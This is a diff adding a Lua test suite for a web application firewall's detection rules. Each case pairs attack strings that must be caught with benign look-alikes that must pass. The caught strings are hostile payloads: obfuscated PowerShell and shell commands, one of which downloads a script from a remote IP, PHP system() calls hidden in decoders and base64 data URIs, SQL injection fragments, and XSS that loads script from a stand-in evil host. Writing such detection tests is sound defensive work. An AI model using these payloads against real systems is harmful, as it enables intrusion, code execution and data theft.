@@ -1,0 +1,105 @@
+local rule_checks = require "rule_checks"
+
+-- The sixtieth set on (tests/edge_security/family_gen_blind_sixt*.py): seventh authors of the rule titles, a
+-- fourth author of fragments and a scanner's probes. The families they found uncovered and the prose beside
+-- them, value by value (our own spellings, not the sets').
+describe("edge.waf.rules sixtieth set on", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("PowerShell: a cmdlet or alias spelled with escape ticks inside the word", function()
+        caught_by(132190, { "I`nvoke-Expression $c", "Inv`oke-WebRequest http://203.0.113.5/a.ps1",
+            "St`art-Pro`cess calc.exe", "in`voke-`expression", "n`e`w-object net.webclient" })
+        clean({ "use `git status` then `Get-Help`", "the docs of `start-process` and `Get-Help`",
+            "a`b, x`y and `code`-ish notes" })
+    end)
+
+    it("shell: builtins, probes and interpreter switches in the shell's quoting, history by prefix", function()
+        caught_by(132280, { "; a''lias x=id", "|hi's't'ory -c", "`w\\hoami`", ".sh'e'll id", "&& !ca", "; !vi",
+            "x; py\"th\"on -c 'import os'", "`u'n'ame -a`" })
+        clean({ "color: red; !important", "great news; !!! see you", "Q&A !", "tom && jerry", "rock 'n' roll; !wow!",
+            "a;b;!c d e f", "my alias is 'Bob'", "our history's c-suite", "(that's it) `code`" })
+    end)
+
+    it("shell: a command word hiding the shell's quoting inside it, whatever follows", function()
+        caught_by(132290, { "c''at x", "c\\at notes.txt", "ca$@t x", "p^ow^ershell -c x", "p\"owershe\"ll", "wh''oami",
+            "'c'at x", "x; un'a'me" })
+        clean({ "I''d love to", "O''Brien and D''Arcy", "rock'n'roll", "it's 'ls' and \"cat\"",
+            '{"id":1,"a":"b","set":2}',
+            "a^b and c^d", "don''t", "the 'id' field", "Mc\"Donald\"s",
+            "PowerShell AD sync (\\\\mgmt01\\scripts\\Sync-Users.ps1)" })
+    end)
+
+    it("PHP and XSS: a decoder's result or a string array's item called, a global's sink by bracket", function()
+        caught_by(133100, { "(strrev('metsys'))('id')", '["sys"."tem"][0]("id")', "['system'][0]/**/('id')",
+            "(str_rot13('flfgrz'))($_GET[c])" })
+        caught_by(141140, { "content['alert'](1)", "opener['eval']('x')" })
+        clean({ "see (strrev is slow) (really)", "the ['a'][0] item (first)", "content['title'] is shown (twice)" })
+    end)
+
+    it("SQLi: a dozen SQL-special characters with hardly a word, integers at a 32- or 64-bit boundary", function()
+        caught_by(142340, { "((((((((((((1))))))))))))", "!@#$%^&*()_+{}|:<>?~`-=[]", "@@@@@@@@@@@@@",
+            "%27%22%28%29%3B%3C%3E%7B%7D%5B%5D%7C%26%21%40", "')));--;--;--;--" })
+        caught_by(142350, { "0x7fffffff", "0xFFFFFFFF", "2147483648", "+4294967296", "0009223372036854775808", "18446744073709551615.0",
+            "2.2250738585072011e-308", "1e309" })
+        clean({ "------------------", "=============", "!!!!!!!!!!!!!!!!!!", "???!!!???!!!", ":-) :-) :-) :-)",
+            "日本語「これ」「それ」「あれ」「どれ」「なに」「だれ」", "O'Brien", "'hello'", "rock 'n' roll",
+            "12345678901", "3.14159265358979", "a'b'c'd'e'f'g'h'i'j'k'l'm'n'", "[[[ draft ]]] (((see notes)))" })
+    end)
+
+    it("Node.js and shell: an endless loop on any truthy constant, top after a separator with a flag", function()
+        caught_by(135120, { "while (!false) {}", "while(!null){}", "while(!undefined){}", "while(Infinity){}",
+            "while (!!{}) {}" })
+        caught_by(132105, { "|top -b -n1", "; top -o %CPU" })
+        clean({ "while (x) {}", "while (!done) {}", "while(!queue.empty()){}", "top -5 ideas", "; top 10 songs",
+            "top of the list | top picks" })
+    end)
+
+    it("PHP and others: a literal echoed, a string broken open, a product printed; FreeMarker's version", function()
+        caught_by(134120, { "${.version}", "${.time_zone}" })
+        caught_by(133160, { "echo 7*7;", "print(1234*5678);", "x';var_dump('probe');", "\".(49*49).\"",
+            "'.sleep(5).'", "res.end(String(4242*1337))", "console.log(31*337)" })
+        clean({ "echo 'hello' in bash prints hello", "print(x)", "I said print; then left", "exit;", "echo;",
+            "log(10*10) is 2", "the price (12 * 12) each", "'.' . '.'", "echo 'hi' | wc -c" })
+    end)
+
+    it("PHP: code inside a data: URI's base64 content, an image's header before it", function()
+        caught_by(132120, { "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
+            "data: text/plain;base64,PD9waHAgc3lzdGVtKCdscycpOz8+" })
+        clean({ "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA" })
+    end)
+
+    it("SQLi: UNION or ALTER ending a value after a quote or number, an operand equal to itself, hex text", function()
+        caught_by(142360, { "1 union", "' union all", "')) alter", "'\tunion", "x like x", "('a')=('a')",
+            "a=a" })
+        caught_by(142360, { "-1/**/union", "' between 1 and 2", "' IS NOT NULL", "x')LIKE('x", "x') = ('x",
+            "'or'", "\"OR\"", "'-0||'", ") where 1=1", "')where(1=1", "from users limit 1", "1 limit 1,1",
+            "case (select 1) when 1 then 'a' end", "1 = any(select 1)", "1 > all (select 1)", "x=(select * from t)",
+            "(select user())" })
+        caught_by(142370, { "@a:=1", "@a := 1", "'{\"x\":1}'::jsonb", "json_object('a',user())",
+            "shutdown with nowait", "against('x' with query expansion)", "execute immediate :sql", "call p()",
+            "count(*)", "uuid()", "md5 (1)" })
+        caught_by(142370, { "`users`.`password`", "`users` . `password`", "`a`,`b`", "where a=0x61", "/*+ index(t) */", "1.e.user", "1.e.`user`" })
+        caught_by(142330, { "sysdate()", "SYSDATE()", "db_name()" })
+        caught_by(142370, { "0x61646d696e", "0X414243", "x'4142'", "openrowset", "utl_http.request",
+            "DBMS_PIPE . RECEIVE_MESSAGE", "sqlite_temp_master", "msdb.dbo.backupset" })
+        clean({ "12 Union St", "union station", "the union", "1=1", "1 = 1", "a = b", "I like it", "0x80070643",
+            "0xFF0000", "0x7ffeefbff5c8", "0x1234", "0x41414141", "xp_gamer", "sp_who", "pg_dump",
+            "1/**/union/**/all", "`a`, `b` and `c`", "use `users`.", "v1.e.2 notes", "email me @ann: the lead", "we execute immediate changes", "call mom (tonight)",
+            "json files", "the count (roughly)", "(select one from the list)", "(select all that apply)", "no limit 2,3 days", "(see below) where it says", "from home limit 2 kids",
+            "the system date" })
+    end)
+
+    it("the seventieth on: handlers and sinks assigned from script, $[ ] arithmetic, the double past its max", function()
+        caught_by(141280, { "'}};window.onload=alert;//", "document.onclick=function(){x()}", "['innerHTML']=",
+            "src=//evil.example/x.js", "href = '//cdn.evil.example/a'" })
+        caught_by(132110, { "$[7*7]", ";echo $[1+1]" })
+        caught_by(142350, { "1.7976931348623157e+309" })
+        caught_by(142330, { "mid(version(),1,1)" })
+        clean({ "window.onload is where we init", "the src=images folder", "x['innerHTML'] == y", "prices $[12] each",
+            "1.7976931348623157e308", "mid (2024)", "href=/docs/a" })
+    end)
+end)
